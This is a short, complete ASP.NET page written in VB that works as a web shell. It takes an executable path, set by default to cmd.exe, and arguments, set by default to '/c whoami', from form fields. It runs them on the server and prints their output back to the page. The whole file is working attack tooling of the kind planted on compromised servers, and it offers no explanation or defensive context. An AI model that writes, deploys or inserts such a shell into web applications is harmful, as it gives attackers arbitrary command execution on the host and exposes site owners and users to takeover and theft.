<%@ Page Language="VB" Debug="true" %>
<%@ import Namespace="system.IO" %>
<%@ import Namespace="System.Diagnostics" %>
<script runat="server">
Sub RunCmd(Src As Object, E As EventArgs)
  Dim myProcess As New Process()
  Dim myProcessStartInfo As New ProcessStartInfo(xpath.Text)
  myProcessStartInfo.UseShellExecute = False
  myProcessStartInfo.RedirectStandardOutput = true
  myProcess.StartInfo = myProcessStartInfo
  myProcessStartInfo.Arguments = xcmd.Text
  myProcess.Start()
  result.Text = myProcess.StandardOutput.ReadToEnd()
End Sub
</script>
<html><body><form runat="server">
<asp:TextBox id="xpath" runat="server" Text="c:\windows\system32\cmd.exe"/>
<asp:TextBox id="xcmd" runat="server" Text="/c whoami"/>
<asp:Button id="go" runat="server" OnClick="RunCmd" Text="Run"/>
<asp:Label id="result" runat="server"/>
</form></body></html>
